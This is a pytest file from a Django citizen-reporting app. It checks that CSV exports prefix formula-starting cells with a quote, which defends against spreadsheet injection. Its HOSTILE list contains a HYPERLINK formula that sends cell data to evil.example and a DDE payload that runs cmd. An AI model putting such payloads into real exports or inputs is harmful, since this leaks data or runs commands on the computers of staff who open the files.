"""Residents' text never runs as a formula in the spreadsheet an agent opens."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from backend.spreadsheets import csv_writer, spreadsheet_cell
from signalements.models import Signalement
from tests.signalements.factories import SAINT_GILLES, file_report

pytestmark = pytest.mark.django_db
QUEUE = "/api/v1/agent/signalements/"
ROOT = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 1 23 45 67 89",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def _export(client, **params) -> list[list[str]]:
    response = client.get(f"{QUEUE}export/csv/", params)
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    delimiter = ";" if params.get("separator") == "semicolon" else ","
    return list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("separator", ["comma", "semicolon"])
def test_a_cell_that_starts_a_formula_is_prefixed_with_a_quote(
    client_for, agent_voirie, citizen, separator
):
    Signalement.objects.all().delete()
    ids = []
    for text in HOSTILE:
        report = file_report(citizen, at=SAINT_GILLES, description="x")
        Signalement.objects.filter(pk=report.pk).update(description=text, address=text)
        ids.append(report.pk)

    header, *rows = _export(client_for(agent_voirie), separator=separator)

    description, address = header.index("description"), header.index("address")
    by_id = {int(row[0]): row for row in rows}
    for pk, text in zip(ids, HOSTILE, strict=True):
        assert by_id[pk][description] == "'" + text
        assert by_id[pk][address] == "'" + text


def test_numbers_written_by_us_stay_numbers(client_for, agent_voirie, citizen):
    Signalement.objects.all().delete()
    report = file_report(citizen, at=SAINT_GILLES, description="-5 °C, verglas")
    header, row = _export(client_for(agent_voirie))
    assert row[header.index("id")] == str(report.pk)
    assert float(row[header.index("latitude")]) == pytest.approx(SAINT_GILLES[0])
    assert float(row[header.index("longitude")]) == pytest.approx(SAINT_GILLES[1])
    assert row[header.index("created_at")][0].isdigit()
    assert row[header.index("description")] == "'-5 °C, verglas"


def test_only_text_is_neutralised():
    assert [spreadsheet_cell(value) for value in (-4.36, -12, 0, None)] == [-4.36, -12, 0, None]
    assert spreadsheet_cell("-4.36") == "'-4.36"
    assert spreadsheet_cell("Nîmes = ville") == "Nîmes = ville"
    line = csv_writer().writerow([-1, "=1+1", "a;b"])
    assert line == "-1,'=1+1,a;b\r\n"


def test_every_csv_file_of_the_project_is_written_through_the_one_writer():
    """A new export that calls the csv module directly would skip the neutralisation."""
    direct = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if not {".venv", "var", "tests", "node_modules"} & set(path.relative_to(ROOT).parts)
        and path.relative_to(ROOT) != Path("backend/spreadsheets.py")
        and direct.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (";=1+1", ";'=1+1"),
        ('voir, =HYPERLINK("http://x")', 'voir, \'=HYPERLINK("http://x")'),
        ("a;  @SUM(A1)", "a;  '@SUM(A1)"),
        ("tab\t+1", "tab\t'+1"),
    ],
)
def test_a_formula_after_a_separator_is_neutralised_too(text, written):
    # French spreadsheets split a comma file at ";": what follows starts a cell.
    assert spreadsheet_cell(text) == written
